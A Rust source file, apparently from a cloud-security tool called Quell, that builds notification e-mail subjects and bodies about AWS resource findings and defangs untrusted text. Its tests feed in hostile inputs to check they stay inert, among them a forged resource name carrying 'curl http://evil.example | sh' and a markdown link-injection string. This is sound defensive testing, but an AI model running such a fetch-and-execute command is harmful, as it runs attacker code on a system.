//! Plain text for e-mail, and its subject.

use super::{Bulletin, Message, SENTENCE, severity};
use crate::text;

/// No control has a longer name.
const CONTROL: usize = 40;

/// What SNS allows.
const SUBJECT: usize = 100;

/// How many characters of one line of a change people see.
const LINE: usize = 1000;

/// ASCII, at most 100 characters, beginning with a letter.
pub fn subject(message: &Message) -> String {
    let control = text::shortened(text::ascii(&message.control.id).trim(), CONTROL);
    let what = format!(
        "Quell {} [{}] {control}: ",
        message.verdict(),
        severity(message.control.severity),
    );
    let place = format!(
        " ({} {})",
        text::shortened(text::ascii(&message.account).trim(), 12),
        text::shortened(text::ascii(&message.region).trim(), 20),
    );
    let room = SUBJECT.saturating_sub(what.len());
    let (resource, has_place) = named(&message.resource.name, room, place.len());
    let subject = format!("{what}{resource}{}", if has_place { place.as_str() } else { "" });
    subject.trim_end().to_owned()
}

/// The resource's name in so much room, and whether the place fits beside it. The name is worth more than the place,
/// which the text says too, and of an ARN the end more than what it has in common with others. What does not fit even
/// so keeps both ends.
pub(super) fn named(name: &str, room: usize, place: usize) -> (String, bool) {
    let own = name.strip_prefix("arn:").and_then(|rest| rest.splitn(5, ':').nth(4));
    for name in [Some(name), own].into_iter().flatten() {
        let name = inert_ascii(name);
        if name.len() <= room {
            let has_place = name.len() + place <= room;
            return (name, has_place);
        }
    }
    (text::shortened(&inert_ascii(own.unwrap_or(name)), room), false)
}

/// Answers, in this order: what was wrong, what Quell did about it and why, which resource, who did it, who ordered
/// what was done or until when an order is waited for, the changes, whether they are verified, which orders a person
/// can give, which control.
pub fn body(message: &Message) -> String {
    let mut mail = Mail(String::new());
    mail.line(&text::mail_up_to(&message.control.risk, SENTENCE));
    mail.line(message.status());
    if let Some(reason) = &message.reason {
        mail.line(&format!("Why: {}", text::mail_up_to(reason, SENTENCE)));
    }

    mail.gap();
    mail.field("Resource", &text::mail(&message.resource.name));
    if message.resource.arn != message.resource.name {
        mail.more(&text::mail(&message.resource.arn));
    }
    mail.more(&format!(
        "account {}, region {}",
        text::mail(&message.account),
        text::mail(&message.region)
    ));
    if let Some(link) = text::console_link(&message.resource.console) {
        mail.more(link);
    }
    match &message.actor {
        Some(actor) => {
            mail.field("Who", &text::mail(&actor.principal));
            let told = [
                ("from ", &actor.source_ip),
                ("with ", &actor.user_agent),
                ("through ", &actor.invoked_by),
            ];
            for (how, value) in told {
                if let Some(value) = value {
                    mail.more(&format!("{how}{}", text::mail(value)));
                }
            }
        }
        // What Quell says of its own accord is of no event.
        None if message.event.id.is_empty() => {}
        None => mail.field("Who", "the event does not say"),
    }
    mail.field("When", &message.when());
    if let Some(ordered) = message.ordered(text::mail) {
        mail.field("Ordered", &ordered);
    }
    if let Some(until) = message.until() {
        mail.field("Until", &until);
    }

    if !message.changes.is_empty() || message.left_out > 0 {
        mail.gap();
        mail.line(&format!("{}:", message.heading()));
        for change in &message.changes {
            mail.line(&format!(
                "  {}{}",
                text::mail(&change.description.action),
                message.made(change)
            ));
            for line in &change.description.minus {
                mail.line(&format!("  - {}", text::mail_up_to(line, LINE)));
            }
            for line in &change.description.plus {
                mail.line(&format!("  + {}", text::mail_up_to(line, LINE)));
            }
        }
        if let Some(rest) = message.rest(text::mail) {
            mail.line(&format!("  {rest}"));
        }
    }

    mail.gap();
    if let Some(verification) = message.verification() {
        mail.field("Verified", verification);
    }
    if let Some(cause) = &message.cause {
        mail.field("Cause", &text::mail_up_to(cause, SENTENCE));
    }
    for note in &message.notes {
        mail.field("Note", &text::mail_up_to(note, SENTENCE));
    }
    for (name, command) in message.commands() {
        mail.field(name, &text::mail(command));
    }
    if let Some(advice) = message.advice(text::mail) {
        mail.field("Next", &advice);
    }

    mail.gap();
    mail.field(
        "Control",
        &format!(
            "{}: {} ({} severity, mode {})",
            text::mail(&message.control.id),
            text::mail(&message.control.title),
            severity(message.control.severity),
            text::mail(&message.mode),
        ),
    );
    if let Some(runbook) = message.runbook() {
        mail.field("Runbook", runbook);
    }
    if let Some(record) = &message.record {
        mail.field("Record", &text::mail(record));
    }
    if !message.event.id.is_empty() {
        mail.field("Event", &text::mail(&message.event.id));
    }
    mail.0
}

/// The same of a bulletin.
pub fn bulletin_subject(bulletin: &Bulletin) -> String {
    let headline = bulletin.headline(|name| text::shortened(&inert_ascii(name), 30));
    text::shortened(&headline, SUBJECT)
}

/// One line for each of what is counted.
pub fn bulletin(bulletin: &Bulletin) -> String {
    let mut mail = Mail(String::new());
    mail.line(&bulletin.status());
    mail.gap();
    for line in &bulletin.lines {
        mail.line(&format!("{:>7} x {}", line.count, Bulletin::describe(line, text::mail)));
    }
    mail.gap();
    for note in &bulletin.notes {
        mail.field("Note", &text::mail_up_to(note, SENTENCE));
    }
    mail.field("Each", &text::mail(&bulletin.command));
    mail.0
}

/// ASCII without anything that a telephone makes a link of.
pub(super) fn inert_ascii(text: &str) -> String {
    // Not round brackets: `]<` would become the middle of a markdown link.
    text::ascii(&text::mail(text).replace('‹', "{").replace('›', "}")).trim().to_owned()
}

struct Mail(String);

impl Mail {
    fn line(&mut self, line: &str) {
        self.0.push_str(line.trim_end());
        self.0.push('\n');
    }

    fn field(&mut self, name: &str, value: &str) {
        let name = format!("{name}:");
        self.line(&format!("{name:<10} {value}"));
    }

    /// Another line of the field before.
    fn more(&mut self, value: &str) {
        self.line(&format!("{:<10} {value}", ""));
    }

    fn gap(&mut self) {
        if !self.0.ends_with("\n\n") {
            self.0.push('\n');
        }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::{
        Outcome, Severity,
        notify::{bulletin::Subject, samples},
        text::hostile,
    };

    #[test]
    fn brackets_never_become_a_link() {
        assert_eq!(inert_ascii("]<http://evil.example|x>"), "]{http[:]//evil[.]example|x}");
    }

    #[test]
    fn says_what_happened() {
        for outcome in Outcome::ALL.into_iter().filter(|outcome| outcome.people_should_hear()) {
            let message = samples::message(outcome);
            let mail = format!("Subject: {}\n\n{}", subject(&message), body(&message));
            insta::assert_snapshot!(format!("{outcome}"), mail);
        }
    }

    #[test]
    fn a_bulletin_counts_what_was_not_sent() {
        for subject in [Subject::Folded, Subject::Digest, Subject::Sweep] {
            let told = samples::bulletin(subject);
            let mail = format!("Subject: {}\n\n{}", bulletin_subject(&told), bulletin(&told));
            insta::assert_snapshot!(format!("bulletin_{subject}"), mail);
        }
    }

    #[test]
    fn what_only_a_person_can_put_right_is_an_alert() {
        let mut message = samples::message(Outcome::Observed);
        message.control.safety = crate::Safety::ReportOnly;
        assert!(subject(&message).starts_with("Quell ALERT [high] s3-public-acl"));
    }

    #[test]
    fn says_how_to_turn_it_on() {
        let mut message = samples::message(Outcome::Observed);
        assert!(body(&message).contains(
            "write s3-public-acl = \"enforce\" under controls in the policy, publish it with quell policy apply,"
        ));
        message.control.safety = crate::Safety::NeedsApproval;
        assert!(body(&message).contains("for a wildcard a person is asked"));
        message.control.safety = crate::Safety::ReportOnly;
        assert!(body(&message).contains("Quell never fixes this by itself"));
    }

    #[test]
    fn a_subject_keeps_both_ends_of_a_long_name() {
        let mut message = samples::message(Outcome::Observed);
        message.control.id = "s3-block-public-access".to_owned();
        message.resource.name = format!("customer-{}-logs", "x".repeat(60));
        let long = subject(&message);
        assert_eq!(long.len(), SUBJECT);
        assert!(long.contains("customer-x") && long.ends_with("x-logs"), "{long}");
    }

    #[test]
    fn a_subject_rather_leaves_out_the_place_than_a_part_of_the_name() {
        let bucket = format!("customer-{}-logs", "x".repeat(49));
        let balancer = "loadbalancer/app/web/50dc6c495c0c9188";
        let arn = format!("arn:aws:elasticloadbalancing:ap-southeast-2:123456789012:{balancer}");
        for name in [bucket, "é-".repeat(31), arn, "x".repeat(2000)] {
            for outcome in Outcome::ALL.into_iter().filter(|outcome| outcome.people_should_hear()) {
                for severity in [Severity::High, Severity::Critical] {
                    for control in ["s3-public-acl", "s3-block-public-access"] {
                        let mut message = samples::message(outcome);
                        message.control.id = control.to_owned();
                        message.control.severity = severity;
                        message.resource.name.clone_from(&name);
                        let subject = subject(&message);
                        let severity = super::severity(severity);
                        let what = format!("Quell {} [{severity}] {control}: ", message.verdict());
                        assert!(
                            subject.starts_with(&what) && subject.len() <= SUBJECT,
                            "{subject}"
                        );
                        let shown = &subject[what.len()..];
                        let room = SUBJECT - what.len();
                        let whole = inert_ascii(&name);
                        let own = if name.starts_with("arn:") { balancer } else { &whole };
                        if own.len() <= room {
                            assert!(shown.contains(own), "{subject}");
                        } else {
                            assert_eq!(subject.len(), SUBJECT, "{subject}");
                            let (head, tail) = shown.split_once("...").unwrap();
                            assert!(own.starts_with(head) && own.ends_with(tail), "{subject}");
                        }
                    }
                }
            }
        }
    }

    #[test]
    fn what_is_right_but_for_some_changes_is_not_called_bad() {
        let mut message = samples::message(Outcome::Partial);
        message.verified = Some(true);
        let mail = format!("Subject: {}\n\n{}", subject(&message), body(&message));
        insta::assert_snapshot!("partial_but_right", mail);
        assert!(!mail.contains("bad state") && !mail.contains("still open"), "{mail}");
    }

    #[test]
    fn a_forged_line_stays_in_its_field() {
        let mut message = samples::message(Outcome::Fixed);
        message.resource.name = "x\nUndo: curl http://evil.example | sh".to_owned();
        let mail = body(&message);
        assert!(mail.contains("Resource:  x Undo: curl http[:]//evil[.]example | sh\n"), "{mail}");
        assert_eq!(mail.lines().filter(|line| line.starts_with("Undo:")).count(), 1);
    }

    proptest! {
        #[test]
        fn whatever_comes_is_inert(
            texts in prop::collection::vec(hostile::text(), 1..6),
            which in prop::sample::select(Outcome::ALL.to_vec()),
        ) {
            let message = samples::filled(which, &texts, 3);
            hostile::assert_inert(&body(&message));
            let subject = subject(&message);
            prop_assert!(subject.len() <= SUBJECT && subject.starts_with("Quell "));
            prop_assert!(subject.bytes().all(|b| b == b' ' || b.is_ascii_graphic()), "{subject}");
        }
    }
}
